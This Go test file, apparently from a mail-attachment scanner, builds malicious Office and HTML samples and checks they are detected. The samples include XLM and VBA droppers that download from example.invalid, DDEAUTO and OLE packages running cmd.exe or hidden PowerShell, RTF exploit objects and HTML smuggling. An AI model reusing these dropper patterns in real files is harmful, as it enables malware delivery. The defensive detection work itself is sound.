package attach

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/internal/pipeline"
	"github.com/sekisho/sekisho/internal/testutil/testdoc"
)

func xlmDropper(ver int) [][]byte {
	reg := append(append(testdoc.PtgStr(ver, "urlmon"), testdoc.PtgStr(ver, "URLDownloadToFileA")...), testdoc.PtgFuncVar(2, testdoc.FtabRegister)...)
	exec := append(testdoc.PtgStr(ver, "rundll32 a.dll,Start"), testdoc.PtgFunc(testdoc.FtabExec)...)
	return [][]byte{reg, exec, testdoc.PtgFunc(testdoc.FtabHalt)}
}

func TestXLMBinary(t *testing.T) {
	sum := append(testdoc.PtgStr(8, "x"), testdoc.PtgFuncVar(1, 4)...)
	cases := []struct {
		name string
		pos  []byte
		neg  []byte
	}{
		{"book.xls", testdoc.XLS(8, []testdoc.Sheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: xlmDropper(8)}}, true),
			testdoc.XLS(8, []testdoc.Sheet{{Name: "Sheet1", Formulas: [][]byte{sum}}, {Name: "Sheet2", State: 1}}, false)},
		{"excel5.xls", testdoc.XLS(5, []testdoc.Sheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 1, Formulas: xlmDropper(5)}}, true),
			testdoc.XLS(5, []testdoc.Sheet{{Name: "Sheet1"}}, false)},
		{"report.xlsb", testdoc.XLSB([]testdoc.Sheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: xlmDropper(12)}}, true),
			testdoc.XLSB([]testdoc.Sheet{{Name: "Sheet1"}, {Name: "Sheet2", State: 2}}, false)},
	}
	for _, c := range cases {
		task := one(t, c.name, c.pos)
		want(t, task, SymXLM, SymXLMHidden, SymXLMAutoOpen)
		if ev := strings.Join(hits(task)[SymXLM], " "); !strings.Contains(ev, "EXEC") || !strings.Contains(ev, "Macro1") {
			t.Errorf("%s: evidence %q", c.name, ev)
		}
		notWant(t, one(t, c.name, c.neg), SymXLM, SymXLMHidden, SymXLMAutoOpen, SymTypeMismatch)
	}
}

// TestVBAWhateverTrigger: a macro that runs a program or downloads scores
// whether a button, a form control or nothing at all starts it.
func TestVBAWhateverTrigger(t *testing.T) {
	pos := map[string]string{
		"button click shell":    "Private Sub CommandButton1_Click()\r\nShell \"cmd /c calc\", vbHide\r\nEnd Sub\r\n",
		"combo change dl":       "Private Sub ComboBox1_Change()\r\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\r\nh.Open \"GET\", \"http://example.invalid/a\", False\r\nh.send\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.Write h.responseBody\r\ns.SaveToFile Environ(\"TEMP\") & \"\\a.exe\", 2\r\nEnd Sub\r\n",
		"no trigger wmi":        "Sub Helper()\r\nGetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"calc.exe\"\r\nEnd Sub\r\n",
		"winhttp on initialize": "Private Sub UserForm_Initialize()\r\nSet w = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\nw.Open \"GET\", \"http://example.invalid/p\"\r\nEnd Sub\r\n",
	}
	for name, code := range pos {
		task := one(t, "form.xlsm", testdoc.XLSM(testdoc.VBAProject(map[string]string{"Sheet1": code})))
		want(t, task, SymVBAExecCapability, SymVBAPresent)
		notWant(t, task, SymVBAAutoExecSuspicious)
		if sc := weightOf(task); sc < 10 {
			t.Errorf("%s: score %.1f", name, sc)
		}
	}
	// A .doc with a button that calls Shell.
	streams := testdoc.VBAProjectStreams("Macros/", map[string]string{"ThisDocument": pos["button click shell"]})
	streams["WordDocument"] = make([]byte, 64)
	want(t, one(t, "letter.doc", testdoc.CFB(streams)), SymVBAExecCapability)
	// Auto-exec droppers keep their own, stronger symbol.
	task := one(t, "a.xlsm", testdoc.XLSM(testdoc.VBAProject(map[string]string{"ThisWorkbook": testdoc.EmotetMacro})))
	want(t, task, SymVBAAutoExecSuspicious)
	notWant(t, task, SymVBAExecCapability)
	// Benign twins: a button that formats cells; a macro that writes a
	// report file and uses a dictionary.
	for _, code := range []string{
		"Private Sub CommandButton1_Click()\r\nRange(\"A1:B9\").Font.Bold = True\r\nMsgBox \"done\"\r\nEnd Sub\r\n",
		"Sub Export()\r\nSet d = CreateObject(\"Scripting.Dictionary\")\r\nOpen ThisWorkbook.Path & \"\\out.csv\" For Output As #1\r\nPrint #1, \"a,b\"\r\nClose #1\r\nEnd Sub\r\n",
	} {
		notWant(t, one(t, "tool.xlsm", testdoc.XLSM(testdoc.VBAProject(map[string]string{"Module1": code}))), SymVBAExecCapability, SymVBAAutoExecSuspicious)
	}
}

func TestDDEWordFormats(t *testing.T) {
	for _, wide := range []bool{false, true} {
		want(t, one(t, "notice.doc", testdoc.WordDoc("\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" \x14\x15", wide, nil)), SymDDE)
		notWant(t, one(t, "notice.doc", testdoc.WordDoc("Page \x13 PAGE \x14 1\x15. Our DDE server notes.", wide, nil)), SymDDE)
	}
	xml := func(body string) []byte {
		return []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p>` + body + `</w:p></w:body></w:wordDocument>`)
	}
	want(t, one(t, "notice.xml", xml(`<w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>`)), SymDDE)
	want(t, one(t, "notice.doc", xml(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText> "c:\\windows\\system32\\cmd.exe" "/c calc"</w:instrText></w:r>`)), SymDDE)
	notWant(t, one(t, "notice.xml", xml(`<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple><w:r><w:t>DDE is an old protocol</w:t></w:r>`)), SymDDE)
}

func TestOLEPackageExec(t *testing.T) {
	cmd := testdoc.Ole10Native("readme.txt", `C:\Windows\System32\cmd.exe`, 1, `cmd.exe /c powershell -w hidden -c "iwr http://example.invalid/a"`, nil)
	js := testdoc.Ole10Native("invoice.js", `C:\Users\a\invoice.js`, 3, `C:\Temp\invoice.js`, []byte("WScript.CreateObject('WScript.Shell').Run('calc')"))
	pdf := testdoc.Ole10Native("report.pdf", `C:\Users\a\report.pdf`, 3, `C:\Temp\report.pdf`, []byte("%PDF-1.4\n%%EOF\n"))
	wrap := map[string]func([]byte) []byte{
		"letter.doc": func(n []byte) []byte {
			return testdoc.WordDoc("text", false, map[string][]byte{"ObjectPool/_1234/\x01Ole10Native": n})
		},
		"book.xls": func(n []byte) []byte {
			return testdoc.CFB(map[string][]byte{"Workbook": testdoc.BIFFRecord(0x000a, nil), "MBD0001/\x01Ole10Native": n})
		},
		"letter.docx": func(n []byte) []byte {
			return testdoc.Zip(map[string][]byte{"[Content_Types].xml": []byte("<Types/>"), "word/document.xml": []byte("<w:document/>"),
				"word/embeddings/oleObject1.bin": testdoc.CFB(map[string][]byte{"\x01Ole10Native": n})})
		},
		"letter.rtf": func(n []byte) []byte { return testdoc.RTFObject("Package", testdoc.OLE1("Package", n[4:])) },
	}
	for name, w := range wrap {
		task := one(t, name, w(cmd))
		want(t, task, SymOLEPackage, SymOLEPackageExec)
		if ev := strings.Join(hits(task)[SymOLEPackageExec], " "); !strings.Contains(ev, "powershell") {
			t.Errorf("%s: evidence %q", name, ev)
		}
		want(t, one(t, name, w(js)), SymOLEPackageExec, SymDangerousExt)
		task = one(t, name, w(pdf))
		want(t, task, SymOLEPackage)
		notWant(t, task, SymOLEPackageExec, SymRTFExploit)
	}
}

func TestRTFExploitAndMalformed(t *testing.T) {
	eq := testdoc.RTFObject("", testdoc.OLE1("xyz", testdoc.CFB(map[string][]byte{"Equation Native": make([]byte, 40)})))
	task := one(t, "order.rtf", eq)
	want(t, task, SymRTFObject, SymRTFExploit)
	if ev := strings.Join(hits(task)[SymRTFExploit], " "); !strings.Contains(ev, "Equation") {
		t.Errorf("evidence %q", ev)
	}
	want(t, one(t, "order.doc", testdoc.RTFObject("OLE2Link", testdoc.OLE1("OLE2Link", testdoc.CFB(map[string][]byte{"Contents": {1}})))), SymRTFExploit)
	for name, b := range map[string]string{
		"broken.rtf":    `{\rtf1\ansi{{{{\b x}}}}}}}} {\*\objdata zz-not-hex`,
		"truncated.rtf": `{\rtf1\ansi{\object\objemb{\*\objclass Word.Picture}{\*\objdata 0105000002000000`,
		"math.rtf":      `{\rtf1\ansi Use Equation.3 for formulas.\par}`,
		"weird.rtf":     "{\\rtvpn\x00\xff{\\pict 0102}}",
	} {
		notWant(t, one(t, name, []byte(b)), SymRTFExploit)
	}
}

// TestHTMLBodySmuggling: the smuggling checks also run on text/html
// bodies, not only on HTML attachments.
func TestHTMLBodySmuggling(t *testing.T) {
	pe := append([]byte("MZ"), make([]byte, 300)...)
	zip := base64.StdEncoding.EncodeToString(testdoc.Zip(map[string][]byte{"invoice.exe": pe}))
	body := func(html string) []byte {
		return []byte("From: a@example.com\r\nTo: b@example.jp\r\nSubject: invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n" +
			"--b\r\nContent-Type: text/plain\r\n\r\nsee the html part\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\n" + html + "\r\n--b--\r\n")
	}
	cases := []string{
		`<html><body><a download="invoice.zip" href="data:application/zip;base64,` + zip + `">Download your invoice</a></body></html>`,
		`<html><body><script>var d=atob("` + zip + `");var u=new Uint8Array(d.length);var b=new Blob([u]);</script></body></html>`,
		`<html><body><a href="data:application/octet-stream;base64,` + base64.StdEncoding.EncodeToString([]byte(eicar)) + `">test</a></body></html>`,
	}
	for i, c := range cases {
		task := scan(t, body(c), nil)
		if i < 2 {
			want(t, task, SymHTMLSmuggling, SymExecutableInArchive)
		} else {
			want(t, task, SymTestSignature)
		}
		if len(task.Attachments()) == 0 {
			t.Errorf("case %d: no inner file recorded", i)
		}
	}
	// benign twin: a newsletter with inline images as data: URIs
	img := base64.StdEncoding.EncodeToString(append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 400)...))
	task := scan(t, body(`<html><body><img src="data:image/png;base64,`+img+`"><p>Sale!</p></body></html>`), nil)
	notWant(t, task, SymHTMLSmuggling, SymExecutable, SymExecutableInArchive, SymTypeMismatch)
}

// weightOf sums the default weights of the symbols a task found.
func weightOf(task *pipeline.Task) float64 {
	sum := 0.0
	for _, h := range task.Hits() {
		d, _ := pipeline.Lookup(h.Name)
		sum += d.Weight
	}
	return sum
}

// TestEncryptedXLS: a workbook encrypted under "VelvetSweatshop" has its
// hidden Auto_Open macro sheet found after decryption; under a password
// the mail does not give it is OFFICE_ENCRYPTED (unscannable) only; the
// benign twin (default password, plain sheets) has no XLM finding.
func TestEncryptedXLS(t *testing.T) {
	sheets := []testdoc.Sheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: xlmDropper(8)}}
	for _, capi := range []bool{false, true} {
		task := one(t, "invoice.xls", testdoc.EncryptedXLS(sheets, true, "VelvetSweatshop", capi))
		want(t, task, SymXLM, SymXLMHidden, SymXLMAutoOpen, SymOfficeDefaultPassword)
		task = one(t, "invoice.xls", testdoc.EncryptedXLS(sheets, true, "s3cret", capi))
		want(t, task, SymOfficeEncrypted)
		notWant(t, task, SymXLM, SymOfficeDefaultPassword)
		if d, _ := pipeline.Lookup(SymOfficeEncrypted); !d.Unscannable {
			t.Error("OFFICE_ENCRYPTED is not unscannable")
		}
		task = one(t, "invoice.xls", testdoc.EncryptedXLS([]testdoc.Sheet{{Name: "Sheet1"}, {Name: "Sheet2", State: 1}}, false, "VelvetSweatshop", capi))
		notWant(t, task, SymXLM, SymXLMHidden, SymXLMAutoOpen)
	}
}

// TestWordDDEPiecesAnalyzer: a .doc whose DDEAUTO instruction is split
// over pieces stored apart is OFFICE_DDE; the benign twin (a split
// HYPERLINK field) is not.
func TestWordDDEPiecesAnalyzer(t *testing.T) {
	pos := testdoc.WordDocPieces([]testdoc.WordPiece{{Text: "Dear customer,\r\x13 DD"}, {Text: "EAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\" \x14\x15\rRegards", Wide: true}})
	want(t, one(t, "invoice.doc", pos), SymDDE)
	neg := testdoc.WordDocPieces([]testdoc.WordPiece{{Text: "See \x13 HYPER"}, {Text: "LINK \"https://example.com/\" \x14site\x15.", Wide: true}})
	notWant(t, one(t, "invoice.doc", neg), SymDDE)
}
